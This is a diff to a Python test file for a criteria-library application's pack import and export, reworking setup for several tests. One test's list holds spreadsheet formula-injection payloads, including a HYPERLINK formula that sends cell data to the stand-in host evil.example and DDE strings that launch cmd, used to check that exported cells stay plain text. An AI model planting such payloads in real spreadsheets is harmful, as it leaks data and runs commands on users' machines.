@@ -13,6 +13,8 @@ import pytest
 import main
 from criteria_library.errors import PackError
 from criteria_library.exchange import apply_import, export_pack, plan_import, read_pack
+from criteria_library.models import Status
+from criteria_library.store import LibraryStore
 from tests.helpers import db_fingerprint
 
 
@@ -180,7 +182,7 @@ def test_a_refused_import_leaves_no_backup(fresh_db, mini_pack, tmp_path, monkey
         raise OSError(28, "No space left on device")
 
     monkeypatch.setattr(fresh_db, "backup", backup)
-    monkeypatch.setattr(fresh_db, "_write_criterion", fail)
+    monkeypatch.setattr(fresh_db, "import_pack", fail)
     with pytest.raises(OSError):
         apply_import(fresh_db, plan)
     assert made and not made[0].exists()
@@ -188,8 +190,8 @@ def test_a_refused_import_leaves_no_backup(fresh_db, mini_pack, tmp_path, monkey
 
 def test_accepted_pack_stays_editable_and_exportable(fresh_db, mini_pack, tmp_path) -> None:
     mini_pack["criteria"][0]["version"] = 999_999
-    mini_pack["criteria"][0]["status"] = "concept"  # edited in place; a published one gets a pending version
     mini_pack["criteria"][0]["placeholders"]["jaren"] = "5 of 6\tjaar"
+    fresh_db.set_status(mini_pack["criteria"][0]["id"], Status.CONCEPT)  # edited in place, not as a new version
     apply_import(fresh_db, plan_import(fresh_db, read_pack(write_json(tmp_path / "p.json", mini_pack))), backup=False)
     c = fresh_db.criterion(mini_pack["criteria"][0]["id"])
     fresh_db.save_criterion(c.__class__(**{**c.__dict__, "title": "Bewerkt"}))
@@ -303,7 +305,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik hier")', "+cmd|' /C cal
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 
-def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back(fresh_db, mini_pack, tmp_path) -> None:
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back(mini_pack, tmp_path) -> None:
     from openpyxl import load_workbook
 
     for n, formula in enumerate(FORMULAS):
@@ -311,9 +313,10 @@ def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back(fre
         mini_pack["criteria"][n]["rationale"] = formula + " toelichting"
     mini_pack["packages"][0]["name_nl"] = "=1+1"
     mini_pack["criteria"][0]["placeholders"]["jaren"] = "=A1"
-    apply_import(fresh_db, plan_import(fresh_db, read_pack(write_json(tmp_path / "p.json", mini_pack))), backup=False)
+    store = LibraryStore.open(tmp_path / "empty.db", seed=False)  # new criteria come in as the pack says
+    apply_import(store, plan_import(store, read_pack(write_json(tmp_path / "p.json", mini_pack))), backup=False)
     out = tmp_path / "lib.xlsx"
-    export_pack(fresh_db, out)
+    export_pack(store, out)
     sheet = load_workbook(out)["Criteria"]
     column = [c.value for c in sheet[1]].index("Titel")
     titles = {row[column].value: row[column] for row in sheet.iter_rows(min_row=2)}
@@ -324,8 +327,9 @@ def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back(fre
         assert cell.quotePrefix  # Excel keeps it text when the user edits the cell
     assert load_workbook(out)["Pakketten"]["B2"].data_type == "s"
     again = read_pack(out)
-    assert not plan_import(fresh_db, again).has_changes  # the export imports back identically
+    assert not plan_import(store, again).has_changes  # the export imports back identically
     assert {c.title for c in again.criteria} >= {f.replace("\r", "\n") for f in FORMULAS}
+    store.close()
 
 
 # ------------------------------------------------------------------ escaped messages (item 10)
